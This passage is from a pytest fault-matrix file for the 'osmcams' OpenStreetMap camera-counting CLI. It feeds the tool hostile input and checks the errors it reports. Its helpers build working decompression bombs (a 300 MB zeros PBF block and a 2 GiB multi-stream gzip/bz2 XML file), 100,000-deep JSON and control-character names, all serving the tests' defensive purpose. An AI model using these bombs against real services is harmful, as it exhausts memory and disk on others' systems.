"""The fault matrix: hostile input, end to end through the CLI, as one table of cases.

Each case names how to build its input (from the real data or a local server), the
command line, the exit code expected and the words the one error or warning line must
hold. A new fault is one new row in ``CASES``.
"""

from __future__ import annotations

import copy
import hashlib
import json
import os
import re
import stat
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from osmcams.cli import cli
from osmcams.errors import ExitCode


@dataclass
class Env:
    """What a case may use to build its command line."""

    tmp: Path
    data: Path  # ../shared/data
    httpserver: object  # a pytest-httpserver on 127.0.0.1, for the service cases
    closers: list[Callable[[], object]] = field(default_factory=list)  # run when the case ends

    @property
    def ign_06(self) -> Path:
        return self.data / "communes/ign-2018-simplified/departements/communes-06-alpes-maritimes.geojson"

    @property
    def population(self) -> Path:
        return self.data / "population/cog-2026/communes.json"

    @property
    def monaco(self) -> Path:
        return self.data / "osm/monaco-2025-02-07.osm.pbf"

    def squares(self, *codes_and_names: tuple[str, str]) -> Path:
        """A boundary file of 0.01° squares side by side over Monaco, one per (code, name)."""
        features = [
            {"type": "Feature", "properties": {"code": code, "nom": name}, "geometry": {
                "type": "Polygon", "coordinates": [[[x, 43.73], [x + 0.01, 43.73], [x + 0.01, 43.74],
                                                    [x, 43.74], [x, 43.73]]]}}
            for x, (code, name) in zip((7.41, 7.42, 7.43), codes_and_names)
        ]
        return self.write("squares.geojson", json.dumps({"type": "FeatureCollection", "features": features}))

    def write(self, name: str, text: str) -> Path:
        path = self.tmp / name
        path.write_text(text, encoding="utf-8")
        return path

    def border(self, edit: Callable[[dict[str, dict[str, Any]]], object] = lambda f: None) -> Path:
        """The IGN outlines of the four French communes around Monaco, after `edit` ({code: feature})."""
        features = json.loads(self.ign_06.read_text(encoding="utf-8"))["features"]
        chosen = {f["properties"]["code"]: f for f in features if f["properties"]["code"] in BORDER}
        edit(chosen)
        collection = {"type": "FeatureCollection", "features": list(chosen.values())}
        return self.write("border.geojson", json.dumps(collection))

    def shapefile(self, crs: str) -> Path:
        """The border communes as a Shapefile in `crs`, without its .prj."""
        import geopandas

        features = json.loads(self.border().read_text(encoding="utf-8"))["features"]
        frame = geopandas.GeoDataFrame.from_features(features, crs="EPSG:4326").to_crs(crs)
        frame.to_file(self.tmp / "border.shp")
        (self.tmp / "border.prj").unlink()
        return self.tmp / "border.shp"

    def two_layers(self) -> Path:
        """The border communes in a GeoPackage with a second layer, which GDAL remarks on."""
        import geopandas

        features = json.loads(self.border().read_text(encoding="utf-8"))["features"]
        frame = geopandas.GeoDataFrame.from_features(features, crs="EPSG:4326")
        path = self.tmp / "border.gpkg"
        frame.to_file(path, layer="communes")
        frame.head(1).to_file(path, layer="other")
        return path

    def cut_pbf(self, extra: int) -> Path:
        """Monaco 2021 cut `extra` bytes past the end of its second-to-last block."""
        data = self.monaco_2021.read_bytes()
        end = 0
        ends = []
        while end < len(data):
            size = int.from_bytes(data[end : end + 4], "big")
            header = data[end + 4 : end + 4 + size]
            at = header.index(b"\x18") + 1  # BlobHeader field 3, the blob's size (a varint)
            blob, shift = 0, 0
            for byte in header[at:]:
                blob |= (byte & 0x7F) << shift
                shift += 7
                if byte < 0x80:
                    break
            end += 4 + size + blob
            ends.append(end)
        path = self.tmp / f"cut-{extra}.osm.pbf"
        path.write_bytes(data[: ends[-2] + extra])
        return path

    @property
    def monaco_2021(self) -> Path:
        return self.data / "osm/monaco-2021-04-21.osm.pbf"

    def frames(self, path: Path | None = None) -> list[bytes]:
        """The blocks of `path` (Monaco 2021), each with its length prefix and header, in order."""
        data = (path or self.monaco_2021).read_bytes()
        found, at = [], 0
        while at < len(data):
            size = int.from_bytes(data[at : at + 4], "big")
            header = data[at + 4 : at + 4 + size]
            blob, shift, pos = 0, 0, header.index(b"\x18") + 1  # field 3, the blob's size
            while True:
                blob |= (header[pos] & 0x7F) << shift
                shift += 7
                pos += 1
                if header[pos - 1] < 0x80:
                    break
            found.append(data[at : at + 4 + size + blob])
            at += 4 + size + blob
        return found

    def pbf(self, name: str, *frames: bytes) -> Path:
        path = self.tmp / name
        path.write_bytes(b"".join(frames))
        return path

    def garbage_block(self, raw: bytes) -> Path:
        """Monaco's header block, then one OSMData blob stating its true size, `raw` deflated."""
        import zlib

        blob = _field(2, len(raw)) + _field(3, zlib.compress(raw, 9))
        return self.pbf("garbage.osm.pbf", self.frames()[0], _frame(b"OSMData", blob))

    def devices_beside(self, boundaries: Path) -> Path:
        """A folder of `boundaries`, with a link to /dev/zero and a FIFO named as boundary files."""
        folder = self.tmp / "with-devices"
        folder.mkdir()
        (folder / boundaries.name).write_bytes(boundaries.read_bytes())
        (folder / "zero.geojson").symlink_to("/dev/zero")
        os.mkfifo(folder / "fifo.geojson")
        return folder

    def edited_pbf(self, block: int, edit: Callable[[bytes], bytes], path: Path | None = None) -> Path:
        """Monaco 2021 (or `path`) with its `block`-th block (0: the header) passed through `edit`."""
        frames = self.frames(path)
        frames[block] = edit(frames[block])
        return self.pbf("edited.osm.pbf", *frames)

    def rewritten(self, *options: str, times: int = 1) -> Path:
        """Monaco 2025 (no bounding box), `times` over, as `osmium cat -f pbf,OPTIONS` writes it."""
        from conftest import run_osmium

        target = self.tmp / "rewritten.osm.pbf"
        run_osmium("cat", *[self.monaco] * times, "-o", target, "-f", ",".join(["pbf", *options]))
        return target

    def osmium_cat(self, name: str, *sources: Path) -> Path:
        """`osmium cat SOURCES -o NAME`: the suffix of NAME sets the history flag."""
        from conftest import run_osmium

        run_osmium("cat", *sources, "-o", self.tmp / name)
        return self.tmp / name

    def versions(self, name: str) -> Path:
        """Three camera nodes in Beausoleil, in several versions: node 1 deleted, node 2
        retagged, node 3 unchanged (today: 2 cameras), written by osmium to `name`."""
        opl = self.write("versions.opl", "\n".join([
            "n1 v1 dV c1 t2020-01-01T00:00:00Z i1 ua Tman_made=surveillance x7.42 y43.74",
            "n1 v2 dD c2 t2021-01-01T00:00:00Z i1 ua T x y",
            "n2 v1 dV c1 t2020-01-01T00:00:00Z i1 ua Tman_made=surveillance x7.421 y43.741",
            "n2 v2 dV c3 t2022-01-01T00:00:00Z i1 ua Tman_made=surveillance,surveillance:type=camera "
            "x7.421 y43.741",
            "n3 v1 dV c1 t2020-01-01T00:00:00Z i1 ua Tman_made=surveillance x7.422 y43.742",
        ]) + "\n")
        return self.osmium_cat(name, opl)

    def bomb(self, raw_size: int | None) -> Path:
        """Monaco's header block, then one OSMData blob of 300 MB of zeros deflated (0.3 MB),
        stating `raw_size` (or nothing)."""
        import zlib

        deflater = zlib.compressobj(9)
        chunk = bytes(1 << 20)
        packed = b"".join(deflater.compress(chunk) for _ in range(300)) + deflater.flush()
        blob = (_field(2, raw_size) if raw_size is not None else b"") + _field(3, packed)
        return self.pbf("bomb.osm.pbf", self.frames()[0], _frame(b"OSMData", blob))

    def xml_bomb(self, name: str) -> Path:
        """`name` (.osm.gz or .osm.bz2): 2 GiB of one XML node over and over, written as one MiB
        of it compressed once and repeated (a file of several streams, which both formats allow)."""
        import bz2
        import gzip

        compress = bz2.compress if name.endswith(".bz2") else gzip.compress
        node = b'<node id="1" version="1" timestamp="2020-01-01T00:00:00Z" lat="17.9" lon="-62.85"/>\n'
        stream = compress(node * ((1 << 20) // len(node)))
        path = self.tmp / name
        with path.open("wb") as out:
            out.write(compress(b'<?xml version="1.0" encoding="UTF-8"?>\n<osm version="0.6">\n'))
            for _ in range(2048):
                out.write(stream)
            out.write(compress(b"</osm>\n"))
        return path

    def count(self, *args: str | Path, boundaries: Path | None = None, pbf: Path | None = None
              ) -> list[str | Path]:
        """`count` on Monaco 2025 (or `pbf`) with the border communes, quietly."""
        return ["count", *args, "--pbf", pbf or self.monaco, "--boundaries", boundaries or self.border(),
                "-q"]

    # Local services (network faults) -------------------------------------------------

    def trickle(self, pause: float, drip: bytes = b" " * 100) -> str:
        """The URL of a server of its own that sends headers, then a byte every `pause` s."""
        from fake_services import Trickle, http_head

        server = Trickle(http_head(10_000), drip, pause).__enter__()
        self.closers.append(lambda: server.__exit__(None, None, None))
        return server.url + "/trickle"

    def services(self, elements: list[Any] | None = None, answer: Any = None,
                 overpass: Callable | None = None, geo: Callable | None = None,
                 overpass_url: str | None = None, status: str | None = None) -> list[str]:
        """geo.api.gouv.fr with the real communes of 06 and Overpass at /api: their URLs as flags.

        Overpass answers Nice's area and `elements`, or `answer`, or calls `overpass`;
        `geo` may rewrite geo.api.gouv.fr's JSON answers; `status` is Overpass's status page.
        """
        from fake_services import GeoApi, overpass_answer, status_page
        from werkzeug import Response

        server: Any = self.httpserver
        api = GeoApi(self.data, ("06",))

        def geo_api(request: Any) -> Response:
            answer = api(request)
            if geo is None:
                return answer
            body = geo(json.loads(answer.get_data()))
            return Response(body if isinstance(body, str) else json.dumps(body),
                            content_type="application/json")

        server.expect_request("/geo/communes").respond_with_handler(geo_api)
        server.expect_request("/api/status").respond_with_data(status or status_page(2))
        interpreter = server.expect_request("/api/interpreter", method="POST")
        if overpass is not None:
            interpreter.respond_with_handler(overpass)
        else:
            area = {"type": "area", "id": 3_600_170_100}
            interpreter.respond_with_json(answer if answer is not None else overpass_answer(
                [area, *(elements or [])]))
        return ["--geo-api-url", server.url_for("/geo"),
                "--overpass-url", overpass_url or server.url_for("/api/interpreter")]

    def count_nice(self, **services: Any) -> list[str | Path]:
        """``count --commune Nice`` against the local services."""
        return ["count", "--commune", "Nice", *self.services(**services), "-q"]

    def catalogue(self, pbf_path: str = "europe/monaco-latest.osm.pbf",
                  length: int | str = 1000) -> list[str]:
        """A Geofabrik index with one region, Monaco, at `pbf_path`, `length` bytes long (its
        Content-Length header, sent as given)."""
        from werkzeug import Response

        server: Any = self.httpserver
        url = server.url_for(f"/geofabrik/{pbf_path}")
        index = {"type": "FeatureCollection", "features": [{
            "type": "Feature", "geometry": None,
            "properties": {"id": "monaco", "name": "Monaco", "parent": "europe",
                           "urls": {"pbf": url}},
        }]}
        server.expect_request("/geofabrik/index-v1.json").respond_with_json(index)
        server.expect_request(f"/geofabrik/{pbf_path}", method="HEAD").respond_with_response(
            Response(iter([]), headers={"Content-Length": str(length), "ETag": '"1"'},
                     direct_passthrough=True))
        sent = b"x" * (min(length, 1000) if isinstance(length, int) else 1000)
        server.expect_request(f"/geofabrik/{pbf_path}.md5").respond_with_data(hashlib.md5(sent).hexdigest())
        server.expect_request(f"/geofabrik/{pbf_path}").respond_with_data(sent)
        return ["--download-url", server.url_for("/geofabrik")]

    def damaged_cache(self) -> Path:
        """A cache directory whose http.sqlite was overwritten."""
        cache = self.tmp / "cache"
        cache.mkdir()
        (cache / "http.sqlite").write_bytes(b"overwritten " * 1000)
        return cache

    def config(self, extra: str = "", output: str = "www", encoding: str = "utf-8",
               pbf: Path | None = None, source: str = "") -> Path:
        """A refresh configuration of Saint-Barthélemy (its own boundaries), `extra` appended,
        `source` lines added to [source]."""
        path = self.tmp / "osmcams.toml"
        pbf = pbf or self.data / "osm/saint-barthelemy/saint_barthelemy.osm.pbf"
        text = (f'[source]\npbf = "{pbf}"\n{source}[communes]\nall = true\nadmin_level = 3\n'
                f'[output]\ndir = "{output}"\n{extra}')
        path.write_bytes(text.encode(encoding))
        return path

    def replicated(self, url_edit: Callable[[str], str] = lambda u: u, source: str = "",
                   diff: bool = False, then: Callable[[Any], object] = lambda server: None,
                   extra: str = "", extract: Path | None = None) -> Path:
        """A refresh configuration of Saint-Barthélemy (or `extract`, of the same data), one
        sequence behind a local replication server (its URL passed through `url_edit`, kept
        as `self.server`) that has the next diff, the real one, only if `diff`; `then` may
        publish others; `extra` appended to the configuration."""
        from conftest import run_osmium
        from fake_replication import Server

        server = Server(self.httpserver, self.tmp / "server")
        folder = self.data / "osm/saint-barthelemy"
        state = (folder / "saint_barthelemy.state.txt").read_text()
        sequence = int(state.split("sequenceNumber=")[1].split()[0])
        pbf = self.tmp / "sbh.osm.pbf"
        run_osmium("cat", extract or folder / "saint_barthelemy.osm.pbf", "-o", pbf,
                   f"--output-header=osmosis_replication_base_url={url_edit(server.url)}",
                   f"--output-header=osmosis_replication_sequence_number={sequence - 1}",
                   "--output-header=osmosis_replication_timestamp=2014-01-15T19:05:08Z")
        if diff:
            real = (folder / "saint_barthelemy.osc.gz").read_bytes()
            server.publish(sequence, real, "2015-03-25T19:05:08Z")
        (server.root / "state.txt").write_text(state)  # the real one
        self.server = server
        then(server)
        return self.config(extra, pbf=pbf, source=source)

    @property
    def register(self) -> Path:
        return self.data / "official/paris-police-2019/data.csv"

    def register_swapped(self) -> Path:
        """The Paris register with its lon and lat columns named the other way round."""
        lines = self.register.read_text(encoding="utf-8").splitlines()
        lines[0] = lines[0].replace(";lon;lat", ";lat;lon")
        return self.write("swapped.csv", "\n".join(lines) + "\n")

    def register_points(self) -> Path:
        """The Paris register's sites as a GeoJSON of points: an OSM side that matches it."""
        import csv

        with self.register.open(encoding="utf-8") as f:
            rows = list(csv.DictReader(f, delimiter=";"))
        features = [{"type": "Feature", "properties": {"@id": f"node/{i + 1}"}, "geometry": {
            "type": "Point", "coordinates": [float(r["lon"]), float(r["lat"])]}} for i, r in enumerate(rows)]
        return self.write("paris.geojson", json.dumps({"type": "FeatureCollection", "features": features}))

    def file(self) -> Path:
        return self.write("a-file", "not a directory")

    def fifo(self) -> Path:
        """A FIFO read by a thread of its own into `self.read` (bytes)."""
        import threading

        path = self.tmp / "fifo"
        os.mkfifo(path)
        self.read = b""

        def drain() -> None:
            with open(path, "rb") as f:
                self.read = f.read()

        reader = threading.Thread(target=drain, daemon=True)
        reader.start()
        self.closers.append(lambda: reader.join(5))
        return path


BORDER = ("06012", "06032", "06104", "06150")
DEEP = "[" * 100_000 + "]" * 100_000  # JSON nested 100,000 levels deep


def _ring(features: dict[str, dict[str, Any]], code: str) -> list[list[float]]:
    return features[code]["geometry"]["coordinates"][0]


def _bowtie(features: dict[str, dict[str, Any]]) -> None:
    west, south, east, north = 7.418, 43.735, 7.436, 43.750  # around Beausoleil
    features["06012"]["geometry"]["coordinates"] = [
        [[west, south], [east, north], [east, south], [west, north], [west, south]]
    ]


def _swap(features: dict[str, dict[str, Any]]) -> None:
    ring = _ring(features, "06012")
    ring[3], ring[6] = ring[6], ring[3]


def _far_vertex(features: dict[str, dict[str, Any]]) -> None:
    _ring(features, "06032")[2] = [500.0, 43.7]


def _deflate_damaged(frame: bytes) -> bytes:
    """A block frame with 4 bytes of 0xff after the 2-byte header of its zlib stream: the first
    deflate block is of a type that does not exist."""
    at = re.search(rb"\x78[\x01\x5e\x9c\xda]", frame[40:]).start() + 40 + 2  # type: ignore[union-attr]
    return frame[:at] + b"\xff" * 4 + frame[at + 4:]


def _nan_vertex(features: dict[str, dict[str, Any]]) -> None:
    _ring(features, "06032")[2] = [float("nan"), 43.7]  # written NaN, as Python's json writes it


def _no_geometry(features: dict[str, dict[str, Any]]) -> None:
    features["06032"]["geometry"] = None


def _point(features: dict[str, dict[str, Any]]) -> None:
    features["06032"]["geometry"] = {"type": "Point", "coordinates": [7.40, 43.72]}


def _no_code(features: dict[str, dict[str, Any]]) -> None:
    del features["06104"]["properties"]["code"]


def _numeric_code(features: dict[str, dict[str, Any]]) -> None:
    features["06012"]["properties"]["code"] = 6012


def _second_version(features: dict[str, dict[str, Any]]) -> None:
    """A second Beausoleil, a square over the middle of the first."""
    west, south, east, north = 7.418, 43.735, 7.436, 43.750
    ring = [[west, south], [east, south], [east, north], [west, north], [west, south]]
    features["06012 again"] = {"type": "Feature", "properties": {"code": "06012", "nom": "Beausoleil"},
                               "geometry": {"type": "Polygon", "coordinates": [ring]}}


def _cog(population: str, code: str = "06012") -> str:
    """A COG table of one commune, its population written as the JSON text `population`."""
    record = f'"code": "{code}", "nom": "Beausoleil", "type": "commune-actuelle"'
    return f"[{{{record}, \"population\": {population}}}]"


GEO_BOWTIE = {"type": "Polygon", "coordinates": [[[7.20, 43.68], [7.28, 43.74], [7.28, 43.68],
                                                  [7.20, 43.74], [7.20, 43.68]]]}


def _far_contour(geometry: dict[str, Any]) -> dict[str, Any]:
    """A geo.api contour with its second vertex moved to longitude 500."""
    changed = copy.deepcopy(geometry)
    polygon = changed["coordinates"] if changed["type"] == "Polygon" else changed["coordinates"][0]
    polygon[0][1] = [500.0, polygon[0][1][1]]
    return changed


def _nan_contour(geometry: dict[str, Any]) -> dict[str, Any]:
    """A geo.api contour with its second vertex at longitude NaN."""
    changed = copy.deepcopy(geometry)
    polygon = changed["coordinates"] if changed["type"] == "Polygon" else changed["coordinates"][0]
    polygon[0][1] = [float("nan"), polygon[0][1][1]]
    return changed


def _geo_features(answer: Any, geometry: Callable[[Any], Any] | None = None,
                  code: str | None = None) -> Any:
    """A geo.api.gouv.fr GeoJSON answer with each feature's geometry or code altered."""
    if not isinstance(answer, dict):  # the name lookup's plain list: as it is
        return answer
    features = []
    for feature in answer["features"]:
        properties = {**feature["properties"], **({"code": code} if code else {})}
        shape = geometry(feature["geometry"]) if geometry else feature["geometry"]
        features.append({**feature, "properties": properties, "geometry": shape})
    return {**answer, "features": features}


def gap(server: Any) -> None:
    """The server a sequence further than the one it lacks: that diff is gone, not late."""
    server.set_latest(1589, "2015-03-26T19:05:08Z")


@dataclass(frozen=True)
class Case:
    """One fault: the arguments built from an Env, the exit code, the words expected."""

    name: str
    argv: Callable[[Env], list[str | Path]]
    code: ExitCode
    words: str  # in the last stderr line (the error), or in a warning when code is OK
    env: dict[str, str] = field(default_factory=dict)  # environment of the run
    absent: str = ""  # words that must appear nowhere in the output
    holds: Callable[[Env], bool] = lambda e: True  # what must hold once the run has ended


CASES: list[Case] = [
    Case("unknown commune",
         lambda e: ["count", "--commune", "Nowhere-sur-Mer", "--pbf", e.monaco, "--boundaries", e.ign_06,
                    "-q"],
         ExitCode.COMMUNE, "Nowhere-sur-Mer"),
    # Issue 8 §1: input accepted silently that must not be.
    *[Case(f"pbf cut {n} bytes into a block's length prefix",
           lambda e, n=n: ["count", "--all", "--pbf", e.cut_pbf(n), "-q"],
           ExitCode.DATA, "cut short") for n in (1, 2, 3)],
    Case("pbf cut inside a block header",
         lambda e: ["count", "--all", "--pbf", e.cut_pbf(9), "-q"], ExitCode.DATA, "cut short"),
    # issue 21 §2: decompression bombs, refused at once
    *[Case(f"pbf bomb stating {stated} bytes",
           lambda e, stated=stated: ["count", "--all", "--pbf", e.bomb(stated), "-q"],
           ExitCode.DATA, f"bomb.osm.pbf: the block at byte {words}")
      for stated, words in ((300 << 20, "170 states 314,572,800 bytes, beyond the 32 MiB the format allows"),
                            (1000, "170 inflates beyond the 1,000 bytes it states"),
                            (None, "170 inflates beyond the 32 MiB the format allows"))],
    *[Case(f"XML extract {suffix} inflating to 2 GiB",  # libosmium inflated it all, 17 s
           lambda e, suffix=suffix: e.count("--commune", "06012", pbf=e.xml_bomb(f"bomb{suffix}")),
           ExitCode.DATA, "inflate to more than 100 times as many (a decompression bomb): refused")
      for suffix in (".osm.gz", ".osm.bz2")],
    Case("pbf block of 32 MiB of zeros",
         lambda e: e.count("--commune", "06012", pbf=e.garbage_block(bytes(32 << 20))),
         ExitCode.DATA, "garbage.osm.pbf: the block at byte 170 is not a block of OSM objects"),
    Case("pbf block of 16 Mi tiny fields",
         lambda e: e.count("--commune", "06012", pbf=e.garbage_block(b"\x08\x00" * (16 << 20))),
         ExitCode.DATA, "more than 10,000 parts in one block: not a PrimitiveBlock"),
    Case("pbf block damaged right after its zlib header",
         lambda e: e.count("--commune", "06012", pbf=e.edited_pbf(7, _deflate_damaged, e.monaco)),
         ExitCode.DATA, "edited.osm.pbf: cannot read OSM data: failed to uncompress data"),
    *[Case(f"pbf {kind} block in zstd, damaged",  # libosmium reads no zstd: its copy was a traceback
           lambda e, at=at: e.count("--commune", "06012",
                                    pbf=e.pbf("zstd.osm.pbf", *_zstd_damaged(e.frames(), at))),
           ExitCode.DATA, f"zstd.osm.pbf: cannot read OSM data: the block at byte {offset} is a damaged")
      for at, kind, offset in ((0, "header", 0), (1, "data", 170))],
    Case("pbf block without objects",
         lambda e: e.count("--commune", "06012", pbf=e.garbage_block(_field(1, _field(1, b"")))),
         ExitCode.DATA, "the block at byte 170 holds no OSM objects"),
    # issue 21 §5, §6: framing that would leave blocks unread, a damaged block type
    Case("pbf block header of length 0",
         lambda e: ["count", "--all", "--pbf", e.edited_pbf(2, lambda b: bytes(4) + b[4:]), "-q"],
         ExitCode.DATA, "edited.osm.pbf: damaged, a block header of length 0 at byte 71,206, "),
    Case("pbf block type damaged",
         lambda e: ["count", "--all", "--pbf", e.edited_pbf(2, lambda b: b.replace(b"OSMData", b"OSMDbta")),
                    "-q"],
         ExitCode.DATA, "a block of type 'OSMDbta' at byte 71,206, where OSMData must be"),
    Case("pbf header block type damaged",
         lambda e: ["count", "--all", "--pbf",
                    e.edited_pbf(0, lambda b: b.replace(b"OSMHeader", b"OSMHeadex")), "-q"],
         ExitCode.DATA, "blob does not have expected type"),
    Case("pbf block header of 70,000 bytes",
         lambda e: ["count", "--all", "--pbf", e.edited_pbf(2, lambda b: (70_000).to_bytes(4, "big") + b[4:]),
                    "-q"],
         ExitCode.DATA, "damaged, a block header of 70,000 bytes at byte 71,206: not a PBF block"),
    Case("pbf block stating a 40 MiB blob",
         lambda e: ["count", "--all", "--pbf", e.edited_pbf(2, lambda b: _frame(b"OSMData", bytes(40 << 20))),
                    "-q"],
         ExitCode.DATA, "a block of 41,943,040 bytes at byte 71,206, beyond the 32 MiB the format allows"),
    # issue 21 §7, §14: histories and duplicates given to count
    Case("full-history file given to count",
         lambda e: e.count("--commune", "06012", pbf=e.versions("v.osh.pbf")),
         ExitCode.OK, "v.osh.pbf is a full-history file: counted as it is at its data date"),
    Case("history without its flag given to count",
         lambda e: e.count("--commune", "06012", pbf=e.versions("v.osm.pbf")),
         ExitCode.DATA, "v.osm.pbf: node/1 follows node/1 in the block at byte 73: the file holds "
                        "several versions of a node"),
    Case("same extract twice, joined by osmium cat",
         lambda e: e.count("--commune", "06012", pbf=e.osmium_cat("twice.osm.pbf", e.monaco, e.monaco)),
         ExitCode.DATA, "twice.osm.pbf: 16 cameras appear more than once (node/6459866647, "),
    Case("same extract twice, in LZ4 blocks (read by libosmium)",
         lambda e: e.count("--commune", "06012", pbf=e.rewritten("pbf_compression=lz4", times=2)),
         ExitCode.DATA, "16 cameras appear more than once"),
    Case("history timeline with a damaged block type",
         lambda e: ["timeline", "--pbf", e.pbf("edited.osh.pbf", *_damaged_type(
             e.frames(e.osmium_cat("m.osh.pbf", e.monaco_2021)))), "--all", "--boundaries", e.ign_06, "-q"],
         ExitCode.DATA, "a block of type 'OSMDbta' at byte 71,284, where OSMData must be"),
    # issue 21 §5: files whose nodes cannot be sampled say why; LZ4 blocks are inflated (issue 28)
    Case("pbf in LZ4 blocks",
         lambda e: e.count("--department", "06", pbf=e.rewritten("pbf_compression=lz4")),
         ExitCode.OK, "rewritten.osm.pbf (known from 2,459 standalone nodes in 100% of its node blocks"),
    Case("pbf without dense nodes",
         lambda e: e.count("--department", "06", pbf=e.rewritten("pbf_dense_nodes=false")),
         ExitCode.OK, "its nodes are not stored as dense nodes (pbf_dense_nodes=false)"),
    Case("pbf with relations, ways, then nodes",
         lambda e: e.count("--department", "06",
                           pbf=e.pbf("reversed.osm.pbf", *_reversed(e.frames(e.monaco)))),
         ExitCode.OK, "its first block holds relations, not nodes: it is not sorted (osmium sort)"),
    Case("bowtie commune repaired with a warning",
         lambda e: e.count("--commune", "Beausoleil", boundaries=e.border(_bowtie)),
         ExitCode.OK, "outline of 'Beausoleil' (06012) is invalid"),
    Case("swapped vertices repaired with a warning",
         lambda e: e.count("--commune", "06012", boundaries=e.border(_swap)),
         ExitCode.OK, "km² as drawn"),
    Case("vertex at longitude 500",
         lambda e: e.count("--commune", "Beausoleil", boundaries=e.border(_far_vertex)),
         ExitCode.DATA, "beyond longitude ±180 or latitude ±90 in the outline of \"Cap-d'Ail\""),
    Case("vertex at longitude NaN",
         lambda e: e.count("--commune", "Beausoleil", boundaries=e.border(_nan_vertex)),
         ExitCode.DATA, "coordinates that are not numbers (NaN or infinite) in the outline of \"Cap-d'Ail\""),
    Case("null geometry asked for by name",
         lambda e: e.count("--commune", "Cap-d'Ail", boundaries=e.border(_no_geometry)),
         ExitCode.DATA, "has no geometry, not a polygon"),
    Case("point geometry asked for by code",
         lambda e: e.count("--commune", "06032", boundaries=e.border(_point)),
         ExitCode.DATA, "has a Point geometry"),
    Case("null geometry in a ranking",
         lambda e: e.count("--department", "06", boundaries=e.border(_no_geometry)),
         ExitCode.OK, "1 features without a polygon left out: \"Cap-d'Ail\" (06032)"),
    Case("shapefile without .prj in lon/lat",
         lambda e: e.count("--department", "06", boundaries=e.shapefile("EPSG:4326")),
         ExitCode.OK, "taken as WGS84"),
    Case("shapefile without .prj in lon/lat, a commune asked for by name",
         lambda e: e.count("--commune", "Beausoleil", boundaries=e.shapefile("EPSG:4326")),
         ExitCode.OK, "border.shp has no coordinate reference system: its coordinates are taken as WGS84"),
    Case("shapefile without .prj in Lambert-93",
         lambda e: e.count("--department", "06", boundaries=e.shapefile("EPSG:2154")),
         ExitCode.DATA, "add the CRS"),
    Case("population inf",
         lambda e: [*e.count("--commune", "Beausoleil"), "--population",
                    e.write("pop.csv", "CODGEO;P21_POP\n06032;4661\n06012;inf\n")],
         ExitCode.DATA, "pop.csv, line 3, code 06012: population 'inf'"),
    Case("population 1e400",
         lambda e: [*e.count("--commune", "Beausoleil"), "--population", e.write("p.json", _cog("1e400"))],
         ExitCode.DATA, "p.json, line 1, code 06012: population inf"),
    Case("population NaN",
         lambda e: [*e.count("--commune", "Beausoleil"), "--population",
                    e.write("p.json", _cog("NaN"))],
         ExitCode.DATA, "population nan"),
    Case("population negative",
         lambda e: [*e.count("--commune", "Beausoleil"), "--population",
                    e.write("p.csv", "CODGEO;PMUN\n06012;-13702\n")],
         ExitCode.DATA, "line 2, code 06012: population '-13702' is not a non-negative whole number"),
    Case("population true",
         lambda e: [*e.count("--commune", "Beausoleil"), "--population", e.write("p.json", _cog("true"))],
         ExitCode.DATA, "population True"),
    Case("population duplicates that disagree",
         lambda e: [*e.count("--commune", "Beausoleil"), "--population",
                    e.write("p.csv", "CODGEO;PMUN\n06012;13702\n06032;4661\n06012;13703\n")],
         ExitCode.DATA, "code 06012 appears twice with different populations"),
    Case("population duplicates that agree",
         lambda e: [*e.count("--commune", "Beausoleil", "--commune", "Cap-d'Ail"), "--population",
                    e.write("p.csv", "CODGEO;PMUN\n06012;13702\n06012;13702\n")],
         ExitCode.OK, "1 commune has no population"),
    Case("population table with the wrong keys",
         lambda e: [*e.count("--commune", "Beausoleil"), "--population",
                    e.write("p.json", '[{"insee": "06012", "population": 13702}]')],
         ExitCode.DATA, "line 1: no commune code"),
    Case("population nested 100,000 deep",
         lambda e: [*e.count("--commune", "Beausoleil"), "--population", e.write("p.json", DEEP)],
         ExitCode.DATA, "p.json: not valid JSON (nested hundreds of levels deep)"),
    Case("population with a field over csv's limit",
         lambda e: [*e.count("--commune", "Beausoleil"), "--population",
                    e.write("long.csv", "CODGEO,PMUN\n06012," + "1" * 200_000 + "\n")],
         ExitCode.DATA, "long.csv, line 2: field larger than field limit (131072)"),
    Case("register with a field over csv's limit",
         lambda e: ["match", "--official", e.write("long.csv", "lon;lat\n7.42;" + "4" * 200_000 + "\n"),
                    "--commune", "06012", "--pbf", e.monaco, "--boundaries", e.border(), "-q"],
         ExitCode.DATA, "long.csv, line 2: field larger than field limit (131072)"),
    Case("reported figures with a field over csv's limit",
         lambda e: ["compare", "--commune", "06012", "--pbf", e.monaco, "--boundaries", e.border(),
                    "--reported", e.write("long.csv", "insee,name\n06012," + "x" * 200_000 + "\n"), "-q"],
         ExitCode.DATA, "long.csv, line 2: field larger than field limit (131072)"),
    Case("shapefile whose .dbf exists",
         lambda e: ["export", "--commune", "06012", "--pbf", e.monaco, "--boundaries", e.border(), "-q",
                    "-o", e.write("z.dbf", "mine").with_suffix(".shp")],
         ExitCode.USAGE, "z.dbf exists; add --overwrite to replace it",
         holds=lambda e: (e.tmp / "z.dbf").read_text() == "mine" and not (e.tmp / "z.shp").exists()),
    Case("download communes of a department that does not exist",
         lambda e: ["download", "communes", "--department", "999", "-q"],
         ExitCode.USAGE, "no department 999 in the COG"),
    Case("population /dev/zero",
         lambda e: [*e.count("--commune", "Beausoleil"), "--population", "/dev/zero"],
         ExitCode.DATA, "/dev/zero: larger than 128 MB: not a population table"),
    Case("population table empty",
         lambda e: [*e.count("--commune", "Beausoleil"), "--population", e.write("p.json", "[]")],
         ExitCode.DATA, "no population in the table"),
    Case("population codes without their leading zero",
         lambda e: [*e.count("--commune", "Beausoleil"), "--population",
                    e.write("p.csv", "CODGEO,PMUN\n6012,13702\n6032,4661\n")],
         ExitCode.DATA, "code '6012' lost its leading zero"),
    Case("population table matching no code",
         lambda e: [*e.count("--commune", "Beausoleil"), "--population",
                    e.write("p.json", _cog("2133111", "75056"))],
         ExitCode.DATA, "no code of the table matches"),
    # Issue 8 §4: names in messages.
    Case("newline in a commune name",
         lambda e: e.count("--commune", "Beau\nsoleil"), ExitCode.COMMUNE, "'Beau\\nsoleil'"),
    Case("right-to-left override in a commune name",
         lambda e: e.count("--commune", "Beau\u202esoleil"), ExitCode.COMMUNE, "'Beau\\u202esoleil'"),
    Case("commune names a spreadsheet would run as formulas",  # were written as they are
         lambda e: ["count", "--all", "--include-partial", "--pbf", e.monaco, "-o", e.tmp / "t.csv",
                    "--boundaries", e.squares(*zip(("M01", "M02", "M03"), FORMULAS))],
         ExitCode.OK, "3 communes have no population",
         holds=lambda e: [r["name"] for r in _csv_rows(e.tmp / "t.csv")] == ["'" + f for f in FORMULAS]),
